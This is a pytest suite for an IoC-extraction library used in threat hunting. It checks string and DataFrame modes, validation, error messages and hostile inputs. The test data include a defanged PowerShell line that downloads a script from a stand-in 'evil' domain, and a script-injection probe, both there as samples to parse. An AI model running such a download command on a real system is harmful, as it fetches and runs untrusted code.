"""hg.ioc in the kernel: the shared corpus, string and DataFrame modes, validate/type_of, errors."""

from __future__ import annotations

import json
import logging
import os
import subprocess
import time
from pathlib import Path

import pandas as pd
import polars as pl
import pyarrow as pa
import pytest

import huntglass as hg
from huntglass import _kernel
from huntglass._widget import STATIC_DIR

CASES = Path(__file__).resolve().parents[1] / "cases" / "ioc"


@pytest.fixture(autouse=True)
def kernel_built() -> None:
    if not (STATIC_DIR / _kernel.KERNEL_FILE).is_file():
        message = f"{_kernel.KERNEL_FILE} not built (run `make build`)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)


def _corpus() -> list[tuple[str, dict]]:
    cases = []
    for path in sorted(CASES.glob("*.json")):
        doc = json.loads(path.read_text(encoding="utf-8"))
        assert doc["schema"] == "huntglass-ioc-cases/1"
        cases.extend((f"{path.name} / {case['name']}", case) for case in doc["cases"])
    assert len(cases) >= 50
    return cases


CORPUS = _corpus()


@pytest.mark.parametrize(("label", "case"), CORPUS, ids=[label for label, _ in CORPUS])
def test_corpus_case_through_the_kernel(label: str, case: dict) -> None:
    options = {**case.get("options", {}), "columns": ["Text"]}
    table = pa.table({"Text": pa.array([case["input"]], pa.string())})
    found = _kernel.call("ioc.extract", options, table).to_pylist()
    data = case["input"].encode("utf-8")
    for row in found:
        assert row["SourceIndex"] == 0
        assert row["Column"] == "Text"
        assert data[row["Start"] : row["End"]].decode("utf-8") == row["Observable"], label
    got = sorted(
        (r["Start"], r["End"], r["IoCType"], r["Observable"], r["Canonical"]) for r in found
    )
    want = sorted(
        (e["start"], e["end"], e["type"], e["observable"], e.get("canonical", e["observable"]))
        for e in case["expected"]
    )
    missing = [w for w in want if w not in got]
    extra = [g for g in got if g not in want]
    assert not missing, f"{label}: missing {missing}"
    if case.get("exact", True):
        assert not extra, f"{label}: unexpected {extra}"
    for absent in case.get("absent", []):
        assert not any(
            r["Observable"] == absent["observable"] and absent.get("type") in (None, r["IoCType"])
            for r in found
        ), f"{label}: {absent} reported"


# -- string mode -------------------------------------------------------------------------------

REFERENCE_EXAMPLE = (
    "visit http://www.contoso.com/path?x=1 or 10.1.2.3 and hXXps://evil[.]com/a and "
    "bad[.]example[.]com user@contoso.com a[at]b[.]com d41d8cd98f00b204e9800998ecf8427e 2001:db8::1"
)


def test_string_mode_is_a_dict_of_sorted_observables() -> None:
    result = hg.ioc.extract(REFERENCE_EXAMPLE)
    assert result == {
        "ipv4": ["10.1.2.3"],
        "ipv6": ["2001:db8::1"],
        "dns": ["b[.]com", "bad[.]example[.]com", "contoso.com", "evil[.]com", "www.contoso.com"],
        "url": ["hXXps://evil[.]com/a", "http://www.contoso.com/path?x=1"],
        "email": ["a[at]b[.]com", "user@contoso.com"],
        "md5_hash": ["d41d8cd98f00b204e9800998ecf8427e"],
    }
    # The reference also reports the URL tails as linux_path: we do not (tests/cases/ioc).
    assert "linux_path" not in result


def test_string_mode_options() -> None:
    text = r"C:\Windows\evil.exe 10.0.0.1 host.corp hxxp://x[.]com/"
    assert list(hg.ioc.extract(text, ioc_types=["ipv4"])) == ["ipv4"]
    assert list(hg.ioc.extract(text, ioc_types="ipv4")) == ["ipv4"]
    assert "windows_path" in hg.ioc.extract(text)
    assert "windows_path" not in hg.ioc.extract(text, include_paths=False)
    assert "host.corp" in hg.ioc.extract(text, ignore_tlds=True)["dns"]
    assert "url" not in hg.ioc.extract(text, defanged=False)
    assert hg.ioc.extract("") == {}
    assert hg.ioc.extract("nothing here") == {}


# -- DataFrame mode ----------------------------------------------------------------------------

ROWS = [
    "powershell -c iwr hxxps://evil[.]com/a.ps1",
    None,
    "ping 10.0.0.1 && ping 10.0.0.1",
    "mail to bob@example.org",
]
OTHER = ["C:\\Temp\\x.exe", "8.8.8.8", None, "nothing"]


def _records(result) -> list[tuple]:
    if isinstance(result, pd.DataFrame):
        rows = result.to_dict("records")
    elif isinstance(result, pl.DataFrame):
        rows = result.to_dicts()
    else:
        rows = result.to_pylist()
    return [
        (r["SourceIndex"], r["Column"], r["IoCType"], r["Observable"], r["Canonical"]) for r in rows
    ]


EXPECTED = [
    (0, "Cmd", "url", "hxxps://evil[.]com/a.ps1", "https://evil.com/a.ps1"),
    (0, "Cmd", "dns", "evil[.]com", "evil.com"),
    (1, "Other", "ipv4", "8.8.8.8", "8.8.8.8"),
    (2, "Cmd", "ipv4", "10.0.0.1", "10.0.0.1"),
    (2, "Cmd", "ipv4", "10.0.0.1", "10.0.0.1"),
    (3, "Cmd", "email", "bob@example.org", "bob@example.org"),
    (3, "Cmd", "dns", "example.org", "example.org"),
]


@pytest.mark.parametrize("flavour", ["pandas", "polars", "pyarrow"])
def test_dataframe_mode_every_library(flavour: str) -> None:
    data = {"Cmd": ROWS, "Other": OTHER}
    frame = {
        "pandas": lambda: pd.DataFrame(data),
        "polars": lambda: pl.DataFrame(data),
        "pyarrow": lambda: pa.table(data),
    }[flavour]()
    result = hg.ioc.extract(frame, columns=["Cmd", "Other"])
    expected_type = {"pandas": pd.DataFrame, "polars": pl.DataFrame, "pyarrow": pa.Table}[flavour]
    assert isinstance(result, expected_type)
    columns = list(result.columns) if flavour != "pyarrow" else result.column_names
    assert columns == [*_kernel_columns(), "Input"]
    assert _records(result) == EXPECTED, "paths are excluded by default (reference DF mode)"
    with_paths = _records(hg.ioc.extract(frame, columns=["Cmd", "Other"], include_paths=True))
    assert (0, "Other", "windows_path", "C:\\Temp\\x.exe", "C:\\Temp\\x.exe") in with_paths


def _kernel_columns() -> list[str]:
    return ["IoCType", "Observable", "Canonical", "SourceIndex", "Column", "Start", "End"]


def test_accessors_pandas_and_polars() -> None:
    data = {"Cmd": ROWS, "Other": OTHER}
    assert _records(pd.DataFrame(data).hg.ioc(columns=["Cmd", "Other"])) == EXPECTED
    assert _records(pl.DataFrame(data).hg.ioc(columns=["Cmd", "Other"])) == EXPECTED
    only_ipv4 = pd.DataFrame(data).hg.ioc(columns="Cmd", ioc_types=["ipv4"])
    assert list(only_ipv4["IoCType"]) == ["ipv4", "ipv4"]


def test_input_column_and_pandas_index_labels() -> None:
    df = pd.DataFrame({"Cmd": ROWS}, index=["a", "b", "c", "d"])
    result = hg.ioc.extract(data=df, columns=["Cmd"])
    assert list(result["SourceIndex"]) == ["a", "a", "c", "c", "d", "d"]
    assert list(result["Input"]) == [ROWS[0], ROWS[0], ROWS[2], ROWS[2], ROWS[3], ROWS[3]]
    assert (df.loc[result["SourceIndex"], "Cmd"].to_numpy() == result["Input"].to_numpy()).all()
    no_input = hg.ioc.extract(df, columns=["Cmd"], input_text=False)
    assert "Input" not in no_input.columns
    # The reference's one row per (row, type, observable):
    deduplicated = result.drop_duplicates(["SourceIndex", "IoCType", "Observable"])
    assert len(deduplicated) == 5


def test_dataframe_column_types() -> None:
    df = pd.DataFrame(
        {
            "Cat": pd.Categorical(["1.1.1.1", "1.1.1.1", None]),
            "Num": [1, 2, 3],
            "Mixed": ["x 2.2.2.2", 5, None],
        }
    )
    result = hg.ioc.extract(df, columns=["Cat", "Num", "Mixed"])
    assert _records(result) == [
        (0, "Cat", "ipv4", "1.1.1.1", "1.1.1.1"),
        (0, "Mixed", "ipv4", "2.2.2.2", "2.2.2.2"),
        (1, "Cat", "ipv4", "1.1.1.1", "1.1.1.1"),
    ]
    pl_result = hg.ioc.extract(
        pl.DataFrame({"S": ["9.9.9.9"]}).with_columns(pl.col("S").cast(pl.Categorical)),
        columns=["S"],
    )
    assert _records(pl_result) == [(0, "S", "ipv4", "9.9.9.9", "9.9.9.9")]


def test_empty_results_keep_the_columns() -> None:
    result = hg.ioc.extract(pd.DataFrame({"Cmd": ["nothing", None]}), columns=["Cmd"])
    assert len(result) == 0
    assert list(result.columns) == [*_kernel_columns(), "Input"]
    empty = hg.ioc.extract(pd.DataFrame({"Cmd": pd.Series([], dtype=object)}), columns="Cmd")
    assert len(empty) == 0


def test_batches_give_the_same_rows_and_report_progress(caplog) -> None:
    rows = [f"host{i}.example.com 10.{i % 256}.0.1" if i % 3 else None for i in range(25)]
    df = pd.DataFrame({"Cmd": rows})
    whole = hg.ioc.extract(df, columns=["Cmd"])
    seen: list[tuple[int, int]] = []
    with caplog.at_level(logging.INFO, logger="huntglass"):
        batched = hg.ioc.extract(
            df, columns=["Cmd"], batch_rows=4, progress=lambda d, t: seen.append((d, t))
        )
    pd.testing.assert_frame_equal(whole, batched)
    assert seen == [(min(n, 25), 25) for n in range(4, 29, 4)]
    assert "ioc.extract: batch 7 of 7, 25 of 25 rows (100%)" in caplog.text
    single: list[tuple[int, int]] = []
    hg.ioc.extract(df, columns=["Cmd"], progress=lambda d, t: single.append((d, t)))
    assert single == [(25, 25)]


# -- validate / type_of ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "ioc_type", "kwargs", "valid"),
    [
        ("10.0.0.1", "ipv4", {}, True),
        ("10.0.0.1 ", "ipv4", {}, False),
        ("999.1.1.1", "ipv4", {}, False),
        ("www.bbc.co.uk", "dns", {}, True),
        ("host.corp", "dns", {}, False),
        ("host.corp", "dns", {"ignore_tlds": True}, True),
        ("bad[.]com", "dns", {}, True),
        ("bad[.]com", "dns", {"defanged": False}, False),
        ("d41d8cd98f00b204e9800998ecf8427e", "md5_hash", {}, True),
        ("d41d8cd98f00b204e9800998ecf8427e", "file_hash", {}, True),
        ("www.contoso.com", "hostname", {}, True),
        ("https://evil.com/x", "url", {}, True),
    ],
)
def test_validate(value: str, ioc_type: str, kwargs: dict, valid: bool) -> None:
    assert hg.ioc.validate(value, ioc_type, **kwargs) is valid


def test_type_of() -> None:
    assert hg.ioc.type_of("10.0.0.1") == "ipv4"
    assert hg.ioc.type_of("hxxps://evil[.]com/x") == "url"
    assert hg.ioc.type_of("2001:db8::1") == "ipv6"
    assert hg.ioc.type_of("CVE-2021-44228") == "cve"
    assert hg.ioc.type_of("just words") == "unknown"
    assert hg.ioc.type_of("host.corp") == "unknown"
    assert hg.ioc.type_of("host.corp", ignore_tlds=True) == "dns"


# -- errors ------------------------------------------------------------------------------------


def test_errors() -> None:
    df = pd.DataFrame({"CommandLine": ["x"], "Account": ["y"]})
    with pytest.raises(
        ValueError, match=r"column 'Cmd' not found; the columns are: 'CommandLine', 'Account'"
    ):
        hg.ioc.extract(df, columns=["Cmd"])
    with pytest.raises(ValueError, match=r"column 'Cmd' not found"):
        hg.ioc.extract(pl.DataFrame({"A": ["x"]}), columns=["Cmd"])
    with pytest.raises(ValueError, match="columns is required.*'CommandLine', 'Account'"):
        hg.ioc.extract(df)
    with pytest.raises(ValueError, match="unknown IoC type 'ip4'; valid types: ipv4"):
        hg.ioc.extract(df, columns=["CommandLine"], ioc_types=["ip4"])
    with pytest.raises(ValueError, match="unknown IoC type 'ip'"):
        hg.ioc.validate("1.2.3.4", "ip")
    with pytest.raises(TypeError, match="expected a string"):
        hg.ioc.validate(1234, "ipv4")
    with pytest.raises(TypeError, match="expected a string, a pandas or polars DataFrame"):
        hg.ioc.extract(42)
    with pytest.raises(TypeError, match="unexpected keyword"):
        hg.ioc.extract("x", ioc_typez=["ipv4"])
    with pytest.raises(ValueError, match="batch_rows"):
        hg.ioc.extract(df, columns=["CommandLine"], batch_rows=0)
    with pytest.raises(TypeError, match="either"):
        hg.ioc.extract("text", data=df, columns=["CommandLine"])


# -- hostile input -----------------------------------------------------------------------------


def test_hostile_inputs_complete() -> None:
    chunk = (
        "GET hxxp://a[.]b[.]example[.]com/x?u=http%3A%2F%2Fevil.com 10.1.2.3 "
        "<script>alert(1)</script> "
    )
    one_mb_line = (chunk * (1_000_000 // len(chunk) + 1))[:1_000_000]
    markers = "[.]" * 300_000
    dotted = "a" + "[.]a" * 200_000 + ".com"
    schemes = "hxxp://" * 100_000
    brackets = "[" * 500_000 + "]" * 500_000
    started = time.monotonic()
    df = pd.DataFrame({"Text": [one_mb_line, markers, dotted, schemes, brackets]})
    result = hg.ioc.extract(df, columns=["Text"], input_text=False)
    elapsed = time.monotonic() - started
    first = result[result["SourceIndex"] == 0]
    assert (first["IoCType"] == "ipv4").sum() == one_mb_line.count("10.1.2.3")
    assert "https://evil.com" not in set(first["Canonical"])  # nested URL decoded, not scheme-less
    assert set(first["Observable"][first["IoCType"] == "url"]).issubset(
        {"hxxp://a[.]b[.]example[.]com/x?u=http%3A%2F%2Fevil.com", "http%3A%2F%2Fevil.com"}
    )
    # A string mode call on the whole megabyte completes as well.
    assert hg.ioc.extract(one_mb_line)["ipv4"] == ["10.1.2.3"]
    assert elapsed >= 0  # completion is the property; speed is measured in bench/


# -- kernel == native --------------------------------------------------------------------------


def test_kernel_equals_the_native_command_on_the_corpus(
    tmp_path: Path, huntglass_bin: Path
) -> None:
    """Every default-option corpus input, one per line: the kernel's rows are the native rows."""
    binary = huntglass_bin
    inputs = [case["input"] for _, case in CORPUS if not case.get("options")]
    assert len(inputs) > 50
    corpus = tmp_path / "corpus.txt"
    corpus.write_text("\n".join(inputs) + "\n", encoding="utf-8")
    completed = subprocess.run(
        [str(binary), "ioc", "--format", "jsonl", str(corpus)],
        check=True,
        capture_output=True,
        text=True,
    )
    native = [json.loads(line) for line in completed.stdout.splitlines()]
    table = pa.table({"Text": pa.array(inputs, pa.string())})
    kernel = _kernel.call("ioc.extract", {"columns": ["Text"]}, table).to_pylist()
    assert len(kernel) > 100
    assert kernel == native
